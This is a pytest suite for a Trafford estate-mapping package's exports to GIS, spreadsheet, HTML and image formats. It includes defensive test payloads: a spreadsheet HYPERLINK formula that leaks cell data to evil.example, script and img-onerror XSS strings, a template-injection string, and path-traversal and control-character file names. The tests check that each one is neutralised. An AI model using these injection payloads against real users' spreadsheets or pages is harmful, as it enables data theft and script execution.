"""Overlap and building exports in every format, on the real layers and the demo estate (estates.exports).

The estate goes through with hostile building names (a spreadsheet formula, a script tag, an image with an onerror
handler) and a hostile partner name, to prove formulas are neutralised and HTML is escaped. The browser side of the
HTML export is in ``tests/browser/test_overlap_export_browser.py``.
"""

from __future__ import annotations

import json
import re
import socket
from pathlib import Path

import geopandas as gpd
import matplotlib.image
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
from openpyxl import load_workbook

from estates import exports
from estates.cli import main
from estates.estate import current_estate
from estates.exports import (
    EXPORT_FORMATS,
    ExportError,
    export_buildings,
    export_bytes,
    export_overlap,
    resolve_output,
    safe_filename,
)
from estates.maps import attribution_text
from estates.maps._offline import external_asset_urls
from estates.maps.static import overlap_figure
from geo import boundaries
from geo.overlap import overlap_pieces
from geo.place import load_place
from geo.projection import BNG

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SCRIPT = "<script>alert('x')</script> Depot"
IMG = "<img src=x onerror=alert(1)>"
PARTNER = "@SUM(1+1) Trust"
# branca compiles rendered map scripts as Jinja templates: register text must never be evaluated on the server.
TEMPLATE = "{{ 'zq' ~ 'xj' * 3 }} Hall"
# Trafford's extent with a small margin (lon, lat).
TRAFFORD_BOX = (-2.48, 53.35, -2.24, 53.49)
LAYERS = {"neighbourhoods", "pcns", "overlaps", "buildings"}


@pytest.fixture(scope="module")
def estate() -> pd.DataFrame:
    """The demo estate with three hostile building names and one hostile partner name (on real rows)."""
    frame = current_estate(use_store=False).copy()
    located = frame.index[frame["neighbourhood"].notna()]
    frame.loc[located[0], "name"] = FORMULA
    frame.loc[located[1], "name"] = SCRIPT
    frame.loc[located[2], "name"] = IMG
    frame.loc[located[3], "partner"] = PARTNER
    frame.loc[located[4], "name"] = TEMPLATE
    return frame


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, estate: pd.DataFrame) -> dict[tuple[str, str], Path]:
    """Every format of both exports, written once."""
    folder = tmp_path_factory.mktemp("exports")
    out = {}
    for kind, exporter in (("overlap", export_overlap), ("buildings", export_buildings)):
        for fmt in EXPORT_FORMATS:
            written = exporter(fmt, folder / f"{kind}.{fmt}", buildings=estate)
            assert written == [folder / f"{kind}.{fmt}"]
            out[kind, fmt] = written[0]
    return out


# ------------------------------------------------------------------------------------------------ GeoPackage


@pytest.mark.parametrize("kind", ["overlap", "buildings"])
def test_geopackage_reads_back_with_every_layer_in_wgs84(exported, estate, kind):
    path = exported[kind, "gpkg"]
    names = {str(name) for name, _ in pyogrio.list_layers(path)}
    assert names >= LAYERS
    layers = {name: gpd.read_file(path, layer=name) for name in LAYERS}
    for name, layer in layers.items():
        assert layer.crs.to_epsg() == 4326, name
    assert sorted(layers["neighbourhoods"]["neighbourhood"]) == ["Central", "North", "South", "West"]
    assert len(layers["pcns"]) == 5
    assert len(layers["overlaps"]) == len(overlap_pieces())
    assert len(layers["buildings"]) == len(estate)
    # Rows that could not be located were rejected: they are not records of the estate, so every record has a point.
    assert int(layers["buildings"].geometry.isna().sum() + layers["buildings"].geometry.is_empty.sum()) == 0
    # Areas were computed in BNG, not in degrees.
    hood_area = layers["neighbourhoods"].to_crs(BNG).area / 1e4
    assert np.allclose(layers["neighbourhoods"]["area_ha"], hood_area, rtol=1e-3)
    assert layers["overlaps"]["area_ha"].sum() == pytest.approx(boundaries.boundary().to_crs(BNG).area.sum() / 1e4,
                                                                rel=1e-3)
    for column in ("area_ha", "population", "buildings", "buildings_surplus", "gia_m2", "is_sliver"):
        assert column in layers["overlaps"].columns
    assert set(layers["buildings"]["status"]) <= {"key", "core", "surplus", "needs data"}


# ------------------------------------------------------------------------------------------------ GeoJSON


def _coordinates(geometry: dict) -> np.ndarray:
    return np.array(shapely.get_coordinates(shapely.geometry.shape(geometry)))


def test_overlap_geojson_is_rfc7946(exported):
    text = exported["overlap", "geojson"].read_text("utf-8")
    data = json.loads(text)
    assert data["type"] == "FeatureCollection"
    assert "crs" not in data
    assert "name" not in data
    assert len(data["features"]) == len(overlap_pieces())
    for feature in data["features"]:
        xy = _coordinates(feature["geometry"])
        # lon/lat order, inside Trafford
        assert (xy[:, 0] > TRAFFORD_BOX[0]).all()
        assert (xy[:, 0] < TRAFFORD_BOX[2]).all()
        assert (xy[:, 1] > TRAFFORD_BOX[1]).all()
        assert (xy[:, 1] < TRAFFORD_BOX[3]).all()
        # RFC 7946 §11.2: no more precision than needed (7 decimals ≈ 1 cm).
        assert np.array_equal(xy, np.round(xy, 7))
        # RFC 7946 §3.1.6: exterior rings counter-clockwise, holes clockwise.
        shape = shapely.geometry.shape(feature["geometry"])
        for polygon in getattr(shape, "geoms", [shape]):
            assert polygon.exterior.is_ccw
            assert all(not ring.is_ccw for ring in polygon.interiors)
    properties = data["features"][0]["properties"]
    assert {"neighbourhood", "pcn_code", "pcn_name", "area_ha", "population", "is_sliver", "buildings"} <= set(
        properties)


def test_buildings_geojson_is_rfc7946_points(exported, estate):
    data = json.loads(exported["buildings", "geojson"].read_text("utf-8"))
    assert "crs" not in data
    assert len(data["features"]) == len(estate)
    located = [f for f in data["features"] if f["geometry"] is not None]
    assert len(located) == len(data["features"])  # rejected (not located) rows are not records of the estate
    for feature in located:
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        if feature["properties"]["outside_trafford"] is False:
            assert TRAFFORD_BOX[0] < lon < TRAFFORD_BOX[2]
            assert TRAFFORD_BOX[1] < lat < TRAFFORD_BOX[3]
        assert -3 < lon < -2
        assert 53 < lat < 54
    names = {f["properties"]["name"] for f in data["features"]}
    assert IMG in names  # data stays data: escaping is the renderer's job


# ------------------------------------------------------------------------------------------------ CSV / XLSX


def _is_formula_like(value: object) -> bool:
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "=+@\t\r":
        return True
    return value[0] == "-" and not re.fullmatch(r"-\d+(\.\d+)?([eE][+-]?\d+)?", value)


def test_building_csv_neutralises_formulas(exported):
    table = pd.read_csv(exported["buildings", "csv"], dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert "'" + FORMULA in set(table["name"])
    assert SCRIPT in set(table["name"])  # plain text in a CSV; never HTML
    assert "'" + PARTNER in set(table["partner"])
    for column in table.columns:
        bad = [v for v in table[column] if _is_formula_like(v)]
        assert not bad, (column, bad[:3])
    assert list(table.columns[:6]) == ["building_id", "site_id", "name", "partner", "organisation", "partner_type"]
    assert "piece" in table.columns


def test_overlap_csv_is_one_long_table_of_the_matrices(exported, estate):
    table = pd.read_csv(exported["overlap", "csv"], encoding="utf-8-sig")
    assert list(table.columns) == ["measure", "neighbourhood", "pcn_name", "value"]
    assert set(table["measure"]) == {"area_ha", "population", "registered_patients", "buildings", "floor_area_m2"}
    assert len(table) == 5 * 4 * 5
    sums = table.groupby("measure")["value"].sum()
    assert sums["population"] == pytest.approx(241_025, abs=1)
    assert sums["buildings"] == len(estate) - 108


def test_overlap_csv_into_a_folder_writes_one_file_per_matrix(tmp_path, estate):
    written = export_overlap("csv", tmp_path, buildings=estate)
    assert {p.name for p in written} == {"area_ha.csv", "population.csv", "registered_patients.csv",
                                         "buildings.csv", "floor_area_m2.csv", "pieces.csv", "notes.csv"}
    assert all(p.parent == tmp_path for p in written)
    area = pd.read_csv(tmp_path / "area_ha.csv", encoding="utf-8-sig", index_col="neighbourhood")
    assert area.shape == (5, 6)  # 4 neighbourhoods + Total, 5 PCNs + Total
    assert area.loc["Total", "Total"] == pytest.approx(boundaries.boundary().to_crs(BNG).area.sum() / 1e4, rel=1e-3)
    # A second run refuses before writing anything; --force rewrites all.
    (tmp_path / "notes.csv").write_text("mine", "utf-8")
    with pytest.raises(ExportError, match="exists"):
        export_overlap("csv", tmp_path, buildings=estate)
    assert (tmp_path / "notes.csv").read_text("utf-8") == "mine"
    export_overlap("csv", tmp_path, buildings=estate, force=True)
    assert "attribution" in (tmp_path / "notes.csv").read_text("utf-8-sig")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize("kind", ["overlap", "buildings"])
def test_xlsx_holds_no_formulas(exported, kind):
    book = load_workbook(exported[kind, "xlsx"])
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _is_formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    if kind == "buildings":
        assert "'" + FORMULA in seen
    assert "'" + PARTNER in seen  # a partner name as a column header of the by-partner sheet


def test_overlap_xlsx_has_a_sheet_per_matrix_pieces_and_notes(exported):
    sheets = pd.read_excel(exported["overlap", "xlsx"], sheet_name=None)
    assert {"area_ha", "population", "registered_patients", "buildings", "floor_area_m2", "floor_area_missing",
            "pieces", "buildings_by_partner", "notes"} <= set(sheets)
    for name in ("area_ha", "population", "registered_patients", "buildings", "floor_area_m2"):
        assert sheets[name].shape == (5, 7), name  # 4 + Total rows; neighbourhood, 5 PCNs, Total
    notes = sheets["notes"]
    text = " ".join(notes["note"].astype(str))
    assert "area-weighted" in text
    assert "ONS mid-2024" in text
    assert "slivers" in set(notes["topic"])
    assert "Pieces smaller than 2 ha" in text
    for line in load_place().attribution:
        assert line in set(notes["note"])
    population = sheets["population"].set_index("neighbourhood")
    ons = boundaries.wards().groupby("neighbourhood")["population_2024"].sum()
    for hood, total in ons.items():
        assert population.loc[hood, "Total"] == pytest.approx(total, abs=0.5)


# ------------------------------------------------------------------------------------------------ maps


def test_html_export_is_standalone_and_escapes_register_text(exported):
    page = exported["overlap", "html"].read_text("utf-8")
    assert external_asset_urls(page) == []
    assert "<script>alert" not in page
    assert "<img src=x onerror" not in page
    assert "zqxjxjxj" not in page  # the template in a building name was not evaluated ...
    assert re.search(r"#123;.{0,40}zq", page)  # ... its braces are shown as text (entities, inside JSON)
    assert "Crown copyright" in page
    assert "Hover a piece" in page  # the legend
    assert "leaflet-control-layers" in page or "L.control.layers" in page
    assert exported["buildings", "html"].read_text("utf-8").count("L.control.layers") == 1


def test_static_map_has_title_legend_scale_north_arrow_and_attribution(estate):
    place = load_place()
    figure = overlap_figure(overlap_pieces(), estate, sliver_ha=2.0)
    gids = {artist.get_gid() for artist in figure.findobj()}
    assert {"title", "legend", "scale-bar", "north-arrow", "attribution"} <= gids
    texts = {t.get_text() for t in figure.findobj(lambda a: hasattr(a, "get_text") and a.get_gid() is not None)}
    assert attribution_text(place) in texts
    assert "km" in texts
    assert "N" in texts
    legend = next(a for a in figure.findobj() if a.get_gid() == "legend")
    labels = [t.get_text() for t in legend.get_texts()]
    assert sum("PCN" in label for label in labels) == 5
    assert any(label.startswith("surplus (") for label in labels)


def test_png_export_is_print_size_and_not_blank(exported):
    image = matplotlib.image.imread(exported["overlap", "png"])
    height, width = image.shape[:2]
    assert (width, height) == (2338, 1654)  # A4 landscape at 200 dpi
    rgb = image[..., :3]
    assert rgb.std() > 0.1
    not_white = (rgb < 0.95).any(axis=2).mean()
    assert 0.2 < not_white < 0.9
    # Five PCN fills and the status colours are really there.
    colours = {tuple(c) for c in (rgb[::7, ::7] * 255).round().astype(int).reshape(-1, 3)}
    assert len(colours) > 50
    assert exported["buildings", "png"].stat().st_size > 100_000


def test_pdf_export_is_a_pdf(exported):
    for kind in ("overlap", "buildings"):
        data = exported[kind, "pdf"].read_bytes()
        assert data.startswith(b"%PDF")
        assert data.rstrip().endswith(b"%%EOF")


# ------------------------------------------------------------------------------------------------ safety


def test_no_overwrite_without_force(tmp_path, estate):
    target = tmp_path / "map.png"
    target.write_bytes(b"keep me")
    with pytest.raises(ExportError, match="exists; use --force"):
        export_overlap("png", target, buildings=estate)
    assert target.read_bytes() == b"keep me"
    export_overlap("png", target, buildings=estate, force=True)
    assert target.read_bytes().startswith(b"\x89PNG")
    with pytest.raises(ExportError, match="exists"):
        export_buildings(None, target, buildings=estate)


@pytest.mark.parametrize(
    ("path", "fmt", "message"),
    [
        ("bad\x1bname.csv", None, "control characters"),
        ("line\nbreak.png", None, "control characters"),
        ("rtl\u202eoverride.csv", None, "control characters"),
        ("no_such_folder/x.csv", None, "no such folder"),
        ("noextension", None, "cannot tell the format"),
        ("x.txt", None, "unknown output format"),
        ("x.csv", "xlsx", "does not match"),
        ("x.csv", "docx", "unknown format"),
        ("", None, "empty|give a file name|folder"),
    ],
)
def test_bad_output_paths_are_refused(tmp_path, monkeypatch, path, fmt, message):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ExportError, match=message):
        resolve_output(path, fmt)
    assert list(tmp_path.iterdir()) == []


def test_folders_only_for_the_overlap_csv(tmp_path):
    assert resolve_output(tmp_path, "csv", folder_ok=True) == (tmp_path, "csv", True)
    with pytest.raises(ExportError, match="is a folder"):
        resolve_output(tmp_path, "csv", folder_ok=False)
    with pytest.raises(ExportError, match="is a folder"):
        resolve_output(tmp_path, "xlsx", folder_ok=True)
    with pytest.raises(ExportError, match="no such folder"):
        resolve_output(str(tmp_path / "missing") + "/", "csv", folder_ok=True)
    assert resolve_output(tmp_path / "report", "xlsx") == (tmp_path / "report.xlsx", "xlsx", False)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "etc_passwd"),
        ("Trafford overlap (draft).xlsx", "Trafford_overlap_draft_.xlsx"),
        ("..hidden", "hidden"),
        ("a/b\\c", "a_b_c"),
        ("\x00\x1b", "export"),
        ("Ünïcode × PCN", "Unicode_PCN"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


def test_a_failed_export_leaves_nothing_behind(tmp_path, estate, monkeypatch):
    def broken(_frame, path):
        path.write_text("half a file", "utf-8")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "_write_geojson", broken)
    with pytest.raises(ExportError, match="No space left"):
        export_overlap("geojson", tmp_path / "pieces.geojson", buildings=estate)
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------------------------------ CLI and bytes


def test_cli_export_writes_and_refuses_to_overwrite(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("ESTATES_DATABASE_URL", raising=False)
    target = tmp_path / "estate.xlsx"
    assert main(["export", "buildings", "--out", str(target), "--no-store"]) == 0
    assert f"wrote {target}" in capsys.readouterr().out
    assert main(["export", "buildings", "--out", str(target), "--no-store"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith("error: ")
    assert "--force" in err
    assert main(["export", "overlap", "--format", "geojson", "--out", str(tmp_path / "pieces"),
                 "--sliver-ha", "0.5", "--no-store"]) == 0
    data = json.loads((tmp_path / "pieces.geojson").read_text("utf-8"))
    # Only the 0.19 and 0.41 ha pieces are under 0.5 ha (the 0.64–1.84 ha ones are not).
    assert sum(f["properties"]["is_sliver"] for f in data["features"]) == 2
    assert main(["export", "overlap", "--out", str(tmp_path / "x.docx")]) == 2


def test_cli_reports_an_unreachable_store_in_one_line(tmp_path, capsys, monkeypatch):
    with socket.socket() as sock:  # a loopback port nobody listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    monkeypatch.setenv("ESTATES_DATABASE_URL", f"postgresql://nobody@127.0.0.1:{port}/estates")
    assert main(["export", "overlap", "--out", str(tmp_path / "o.csv")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: cannot read the store")
    assert err.count("\n") == 1
    assert "--no-store" in err
    assert list(tmp_path.iterdir()) == []


@pytest.fixture(scope="module")
def store_estate(tmp_path_factory: pytest.TempPathFactory) -> pd.DataFrame:
    """The estate as the app reads it from its store (UTC timestamps, JSON columns, override columns)."""
    from estates.service import load_registers, read_records
    from estates.store import open_store

    with open_store(tmp_path_factory.mktemp("store") / "estates.gpkg") as store:
        load_registers(store)
        return read_records(store)


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_exports_take_the_estate_as_the_store_holds_it(tmp_path, store_estate, fmt):
    assert any(isinstance(t, pd.DatetimeTZDtype) for t in store_estate.dtypes)
    export_buildings(fmt, tmp_path / f"estate.{fmt}", buildings=store_estate)
    if fmt in ("xlsx", "csv", "gpkg"):
        export_overlap(fmt, tmp_path / f"overlap.{fmt}", buildings=store_estate)
    if fmt == "xlsx":
        listed = pd.read_excel(tmp_path / "estate.xlsx", sheet_name="buildings")
        assert len(listed) == 979
        assert listed["updated_at"].notna().all()


def test_export_bytes_for_download_buttons(estate):
    made = export_bytes("overlap", "csv", buildings=estate)
    assert made.name == "trafford-overlap.csv"
    assert made.mime == "text/csv"
    assert made.data.decode("utf-8-sig").startswith("measure,neighbourhood,pcn_name,value")
    with pytest.raises(ExportError):
        export_bytes("everything", "csv")
